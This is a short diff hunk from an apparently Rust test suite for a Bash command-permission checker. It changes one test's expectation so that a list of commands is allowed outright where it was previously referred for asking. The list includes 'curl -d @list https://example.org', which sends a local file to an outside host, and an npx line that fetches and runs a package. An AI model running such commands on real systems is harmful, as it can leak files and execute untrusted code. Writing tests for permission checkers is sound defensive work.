@@ -141,7 +141,7 @@ fn a_program_that_takes_names_from_a_list_may_show_any_file() {
         "curl -d @list https://example.org",
         "npx @scope/name a",
     ]);
-    bench.allow("Bash").asks(lines);
+    bench.allow("Bash").allows(lines);
 }
 
 #[test]
